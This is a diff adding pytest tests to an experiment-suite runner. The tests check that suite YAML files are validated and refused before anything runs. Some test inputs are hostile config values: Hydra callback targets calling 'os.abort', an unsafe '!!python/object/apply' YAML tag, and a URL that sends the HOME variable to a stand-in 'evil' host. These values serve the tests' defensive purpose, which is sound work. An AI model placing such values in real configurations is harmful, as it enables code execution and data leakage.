@@ -10,10 +10,13 @@ from pathlib import Path
 
 import pytest
 
+from resi.app import run_command
 from resi.compositions import compose_all, open_configs
 from resi.config import RunConfig, compose
 from resi.errors import UsageError
-from resi.suites import Job, Suite, expand, load_suite, suite_names
+from resi.suite_files import Suite, load_suite, suite_names
+from resi.suite_jobs import Asked, split_words
+from resi.suites import Job, expand
 from tests.conftest import TINY
 
 COMMAND = [sys.executable, "-c", "from resi.app import main; main()"]
@@ -278,3 +281,133 @@ def test_a_suite_without_grids_is_refused(tmp_path: Path) -> None:
     (tmp_path / "suite" / "empty.yaml").write_text("about: nothing\n")
     with pytest.raises(UsageError, match="suite=empty: expected `grids:`"):
         load_suite("empty", open_configs(tmp_path))
+
+
+def write_suite(folder: Path, text: str, name: str = "mine") -> Path:
+    (folder / "suite").mkdir(exist_ok=True)
+    (folder / "suite" / f"{name}.yaml").write_text(text)
+    return folder
+
+
+CALLED = "hydra:\n  callbacks:\n    x:\n      _target_: pathlib.Path.touch\n      self: {path}\n"
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("# @package _global_\ngrids:\n  a:\n    test: shortcut\n", "says `@package`"),
+        ("grids:\n  a:\n    test: shortcut\n" + CALLED, r"unknown key of suite=mine: 'hydra'\. Known: about, defaults"),
+        ("grids:\n  a:\n    hydra.callbacks.x._target_: os.abort\n", r"unknown key in suite=mine: grids\.a: 'hydra\."),
+        ("grids:\n  a:\n    +hydra.callbacks.x._target_: os.abort\n", r"unknown key in suite=mine: grids\.a: '\+hydra"),
+        ("grids:\n  a:\n    hydra/launcher: joblib\n", "A grid has keys of a run alone"),
+        ("grids:\n  a:\n    test=shortcut hydra.x: 1\n", "unknown key in suite=mine"),
+        ("grids:\n  a:\n    suite: smoke\n", "unknown key in suite=mine: grids.a: 'suite'"),
+        ("grids:\n  a:\n    tests: shortcut\n", "did you mean test"),
+        ("grids:\n  a:\n    shards: https://evil/${oc.env:HOME}\n", "in which .* stands for nothing"),
+        ("grids:\n  a:\n    measure: {cka: {_target_: os.abort}}\n", "expected a value or a list of values"),
+        ("grids:\n  a:\n    test: [shortcut, augmentation]\n", "a run has one test"),
+        ("defaults: [mine]\ngrids:\n  a:\n    test: shortcut\n", "suite=mine: mine takes in mine, which never ends"),
+        (
+            "defaults:\n- /hydra/launcher: joblib\ngrids:\n  a:\n    test: shortcut\n",
+            "expected the names of other suites",
+        ),
+        ("defaults: [nothing]\n", "unknown suite 'nothing'"),
+        ("grids: !!python/object/apply:os.abort []\n", "cannot be read"),
+    ],
+)
+def test_a_suite_is_data_and_is_checked_before_anything_is_composed(text: str, message: str, tmp_path: Path) -> None:
+    write_suite(tmp_path, text.format(path=tmp_path / "called") if "{path}" in text else text)
+    with pytest.raises(UsageError, match=message):
+        expand((), load_suite("mine", open_configs(tmp_path)))
+
+
+@pytest.mark.parametrize(
+    "words", [["-m", "suite=mine"], ["plan", "suite=mine"], ["-m", "+suite=mine"], ["-m", "suite@x=mine"]]
+)
+def test_no_command_calls_what_a_suite_names(
+    words: list[str], root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    write_suite(
+        tmp_path, "# @package _global_\n" + CALLED.format(path=tmp_path / "called") + "grids: {a: {test: shortcut}}\n"
+    )
+    at = 1 if words[0] == "plan" else 0
+    assert run_command([*words[:at], "--config-dir", str(tmp_path), *words[at:]]) == 2
+    assert "says `@package`" in capsys.readouterr().err
+    assert not (tmp_path / "called").exists()
+
+
+def test_a_suite_named_like_another_is_refused_and_a_wrong_one_hides_no_other(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    write_suite(tmp_path, "grids:\n  a:\n    tests: shortcut\n")
+    assert run_command(["list", "suites", "*m*", "--config-dir", str(tmp_path), "--json"]) == 0
+    rows = {row["name"]: row for row in json.loads(capsys.readouterr().out)}
+    assert rows["smoke"]["jobs"] == 18
+    assert rows["mine"]["about"].startswith("cannot be used: unknown key in suite=mine")
+    write_suite(tmp_path, "grids:\n  a:\n    test: shortcut\n", "smoke")
+    for command in (["list", "suites"], ["plan", "suite=smoke"], ["describe", "smoke"]):
+        assert run_command([command[0], *command[1:], "--config-dir", str(tmp_path)]) == 2
+        assert "smoke.yaml has the name of another suite" in capsys.readouterr().err
+
+
+def test_a_suite_takes_in_the_grids_of_others_in_order(tmp_path: Path) -> None:
+    write_suite(tmp_path, "grids:\n  a: {test: shortcut}\n  b: {test: shortcut, seeds: [0, 1]}\n", "base")
+    write_suite(tmp_path, "defaults: [base]\ngrids:\n  b: {test: augmentation}\n")
+    loader = open_configs(tmp_path)
+    assert load_suite("mine", loader).grids == {
+        "a": {"test": "shortcut"},
+        "b": {"test": "augmentation", "seeds": [0, 1]},
+    }
+    write_suite(tmp_path, "defaults: [_self_, base]\ngrids:\n  b: {test: augmentation}\n")
+    assert load_suite("mine", loader).grids["b"] == {"test": "shortcut", "seeds": [0, 1]}
+
+
+def test_words_about_one_model_of_a_sweep_go_to_its_jobs_alone() -> None:
+    assert expand(["model=gcn,gat", "model.gcn.epochs=15"]) == [("model=gcn", "model.gcn.epochs=15"), ("model=gat",)]
+    with pytest.raises(UsageError, match=r"model\.vgg11\.epochs=1: no job of this sweep has model=vgg11"):
+        expand(["model=gcn,gat", "model.vgg11.epochs=1"])
+
+
+def test_the_words_of_a_sweep_are_kept_from_hydra_but_for_those_of_its_launcher() -> None:
+    words = ["-m", "--config-dir", "a=b", "model=gcn,gat", "model.gcn.epochs=2", "root=/r", "compare.threads=1"]
+    start, asked = split_words([*words, "hydra/launcher=joblib"])
+    assert start == ["-m", "--config-dir", "a=b", "root=/r", "compare.threads=1", "hydra/launcher=joblib"]
+    assert asked == Asked(None, ("model=gcn,gat", "model.gcn.epochs=2", "root=/r", "compare.threads=1"))
+    assert split_words(["test=shortcut"]) == (["test=shortcut"], None)
+    other = ["-m", "hydra/sweeper=basic", "measure=cka,rsa"]  # which gets all words
+    assert split_words(other) == (other, None)
+    assert split_words(["suite=smoke", "test=shortcut"]) == (["-m"], Asked("smoke", ("test=shortcut",)))
+
+
+def test_a_sweep_without_its_data_says_so_once_and_starts_nothing(
+    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    words = [
+        "-m",
+        *TINY[3:],
+        "dataset=cora",
+        f"dataset.root={tmp_path}",
+        "measure=cka,rsa",
+        "test=shortcut,augmentation",
+    ]
+    assert run_command(words) == 1
+    found = capsys.readouterr()
+    assert found.err.count("holds no Cora") == 1
+    assert "none of the 4 jobs can run" in found.err
+    assert "holds no Cora" not in found.out
+    assert not (root / "models").exists()
+
+
+def test_jobs_without_data_are_told_once_and_not_started(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    from resi import sweeps
+
+    sweeps.note_blocked(
+        tmp_path, 1, {("measure=cka", "shards=s3://a:b@c"): "holds no Cora", ("measure=rsa",): "holds no Cora"}
+    )
+    records = sweeps.read_jobs(tmp_path)
+    assert [(record["number"], record["outcome"]) for record in records] == [(1, "failed"), (2, "failed")]
+    sweeps.print_report(records)
+    found = capsys.readouterr().out
+    assert found.count("holds no Cora") == 1
+    assert "as above" in found
+    assert "s3://***@c" in found
